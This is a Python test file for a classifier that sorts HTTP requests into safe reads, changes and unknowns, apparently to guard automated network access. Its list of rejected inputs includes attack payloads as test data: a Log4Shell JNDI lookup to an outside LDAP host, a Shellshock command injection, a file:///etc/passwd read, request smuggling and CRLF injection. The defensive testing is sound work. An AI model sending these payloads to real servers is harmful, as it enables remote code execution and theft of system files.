"""Requests over HTTP: a GET whose every word is known to look is a read, and nothing else is."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tocsin.safety import classify

JSON = "\nContent-Type: application/json\n\n{}"
READS = [
    "GET https://shop.example/api/health",
    "HEAD https://shop.example/api/health HTTP/1.1",
    "GET http://127.0.0.1:9090/metrics\nAccept: text/plain",
    "GET https://shop.example/api/orders?status=open&limit=5\nHost: shop.example",
    "GET https://shop.example/api/orders/4711\nAuthorization: Bearer $SHOP_TOKEN",
    "GET https://shop.example/api/v1/query?query=up%7Bjob%3D%22oven%22%7D",
    "GET https://shop.example/api/orders?customerId=7&cart_item_ids=1,2&tenant-id=rye&uuid=4f",
    "GET https://shop.example/api/orders?from=2026-03-01&to=2026-03-01T10:00:00Z&since=-1h&until=now",
    "GET https://shop.example/api/orders?start=1700000000&end=now-5m",
    'GET https://shop.example/api/health\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\nIf-None-Match: W/"7"',
    "GET https://shop.example/api/health\nRange: bytes=0-99,-20",
    "GET https://shop.example/api/health\nCookie: JSESSIONID=4f.a",
    "GET https://shop.example/api/health\nCookie: $SHOP_COOKIE",
]
CHANGES = [
    f"{method} https://shop.example/api/health{body}"
    for method in ("POST", "PUT", "PATCH", "DELETE")
    for body in ("", JSON)
]
UNKNOWNS = [
    "GET /api/health",
    "GET https://shop.example/admin/flush",
    "GET https://shop.example/api/orders?action=delete",
    "GET https://shop.example/api/orders/restart",
    "GET https://shop.example/api/../admin/health",
    "GET https://shop.example/api/heartbeats/oven/ping",
    "GET https://shop.example/api/heartbeats/ping",
    "GET https://shop.example/api/jobs/12?start",
    "GET https://shop.example/api/jobs/12?end=yes",
    "GET https://shop.example/api/orders?to=bakers",
    "GET https://shop.example/api/orders?bake_id=7",
    "GET https://shop.example/api/orders?orderDeleteId=7",
    "GET https://shop.example/api/orders?paid=1",
    "GET https://shop.example/api/orders?prepaid=1",
    "GET https://shop.example/api/health\nUser-Agent: ${jndi:ldap://rye.example/a}",
    "GET https://shop.example/api/health\nReferer: () { :; }; id",
    "GET https://shop.example/api/health\nConnection: close, X-Tenant",
    "GET https://shop.example/api/health\nRange: bytes=0-1,2-3,4-5",
    "GET https://shop.example/api/health\nCookie: _method=DELETE",
    "GET https://shop.example/api/health\nCookie: XDEBUG_SESSION=1",
    "GET https://shop.example/api/health\nCookie: sid=1; act=bake",
    "GET https://shop.example/api/health\nX-HTTP-Method-Override: DELETE",
    "GET https://shop.example/api/health\nAccept: $SHOP_TOKEN",
    "GET https://shop.example/api/health\nHost: other.example",
    "GET https://shop.example/api/health\n\n{}",
    "GET https://shop.example/api/health\n\nDELETE https://shop.example/api/orders",
    "GET https://shop.example/api/health\nContent-Length: 0",
    "GET https://ana:rye@shop.example/api/health",
    "GET https://shop.example/api/health\r\nX: y",
    "GET file:///etc/passwd",
    "GET gopher://shop.example/x",
    "BREW https://shop.example/api/health",
    "GET https://$HOST/api/health",
    "GET https://shop.example/$PATH",
    "GET https://shop.example/functions/v1/health",
    "curl https://shop.example/api/health",
    "",
]


@pytest.mark.parametrize("text", READS)
def test_a_request_that_only_looks_is_a_read(text: str) -> None:
    """Its words are those that are known of curl's addresses."""
    verdict = classify("http", text)
    assert verdict.word == "read", verdict.why
    assert "network" in verdict.traits
    assert verdict.plan is None


@pytest.mark.parametrize("text", CHANGES)
def test_a_method_that_changes_is_a_change(text: str) -> None:
    """Whatever the address says."""
    assert classify("http", text).word == "change"


@pytest.mark.parametrize("text", UNKNOWNS)
def test_all_else_is_unknown_with_one_sentence(text: str) -> None:
    """What can't be read, what asks somebody else than it shows, what may act although it only gets."""
    verdict = classify("http", text)
    assert verdict.word == "unknown"
    assert verdict.why.startswith("It is not proved to only read, because ")
    assert verdict.why.endswith(".")


@pytest.mark.parametrize("text", [*READS, *CHANGES, *UNKNOWNS])
def test_the_proof_stands_where_it_says(text: str) -> None:
    """Each part is a piece of the text, and what is no read has the part that decided."""
    verdict = classify("http", text)
    assert all(text[part.at : part.end] == part.text for part in verdict.proof)
    if verdict.proof:
        assert (verdict.deciding is None) is (verdict.word == "read")


@pytest.mark.parametrize(
    ("text", "trait"),
    [
        ("orders/4711\nAuthorization: Bearer $SHOP_TOKEN", "secret"),
        ("health\nX-Api-Key: rye", "secret"),
        ("health\nCookie: sid=$SHOP_SESSION", "secret"),
        ("events", "endless"),
        ("containers/oven/stats", "endless"),
        ("health\nAccept: text/event-stream", "endless"),
    ],
)
def test_a_credential_and_a_stream_are_told(text: str, trait: str) -> None:
    """It only looks, and still never starts by itself."""
    verdict = classify("http", f"GET https://shop.example/api/{text}")
    assert (verdict.word, set(verdict.traits)) == ("read", {"network", trait})


def test_what_is_known_to_end_is_no_stream() -> None:
    """Of these paths the whole is listed."""
    assert classify("http", "GET https://shop.example:9200/_cluster/stats").traits == ("network",)


@pytest.mark.parametrize("path", ["health", "orders/4711", "orders?status=open", "flush", "orders?do=delete", "x/y/z"])
def test_it_is_judged_as_curl_is(path: str) -> None:
    """The same address has the same verdict, in whatever form it is asked."""
    address = f"https://shop.example/api/{path}"
    assert classify("http", f"GET {address}").word == classify("shell", f"curl '{address}'").word


def test_a_gap_is_part_of_what_is_judged() -> None:
    """An open gap in the path is one word; as the whole address it may be anything."""
    verdict = classify("http", "GET https://shop.example/api/orders/<id>", placeholders=["<id>"])
    assert (verdict.word, verdict.traits) == ("read", ("network", "unbound"))
    assert verdict.proof[1].text == "https://shop.example/api/orders/<id>"
    assert classify("http", "GET <url>", placeholders=["<url>"]).word == "unknown"
    assert classify("http", "<verb> https://shop.example/api/health", placeholders=["<verb>"]).word == "unknown"


@settings(max_examples=300)
@given(
    st.sampled_from(READS), st.text(st.sampled_from("/?&#\n\r :@.-DELETEpost\x00${}é"), max_size=8), st.integers(0, 80)
)
def test_no_insertion_makes_a_change_a_read(text: str, more: str, at: int) -> None:
    """Whatever is written into it, a read is still one request that gets, to the address that its proof shows."""
    spoilt = text[:at] + more + text[at:]
    verdict = classify("http", spoilt)
    if verdict.word == "read":
        assert spoilt.startswith(("GET ", "HEAD "))
        assert "\r" not in spoilt
        assert verdict.proof[1].role == "address"
